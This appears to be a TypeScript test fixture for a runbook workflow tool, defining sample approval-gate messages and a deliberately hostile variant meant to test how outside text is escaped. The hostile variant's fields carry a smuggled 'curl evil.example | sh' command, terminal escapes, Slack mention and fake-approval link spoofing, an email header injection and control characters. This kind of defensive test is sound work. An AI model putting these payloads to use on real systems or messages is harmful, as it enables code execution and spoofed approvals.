/** Messages as runs make them, with hostile text in every place that holds text from outside. */
import { endOf, type GateMessage, type Message } from '../../../src/contract/telling/telling';
import { report } from '../../contract/sample-report';

const about = {
  runbook: 'restore',
  installation: 'prod',
  workflowId: 'restore-prod-20261124',
  runId: '0192-run',
};

export const gateMessage: GateMessage = {
  event: 'gate',
  id: '0192-run-launch-k3f9-0',
  ...about,
  gate: {
    id: 'launch-k3f9',
    title: 'Approve the launch',
    details: 'Launches **m4.2xlarge** from ami-0123.',
    answers: ['approve', 'reject'],
    openedAt: '2026-11-24T13:31:00.000Z',
    expiresAt: '2026-12-01T13:31:00.000Z',
    example: '{"by":"YOUR NAME","gate":"launch-k3f9","note":"why"}',
  },
};

export const endMessage: Message = endOf(report);

export const hostile: GateMessage = {
  ...gateMessage,
  workflowId: "x'; curl evil.example | sh; `id` ```\u001b[2J",
  gate: {
    ...gateMessage.gate,
    title: '<!channel> & <https://evil.example|Approved>\r\nBcc: all@example.com\u202e',
    details: 'see <@U123> <!here> `x` *bold* \\[link\\]\r\nand\u0000 more',
  },
};
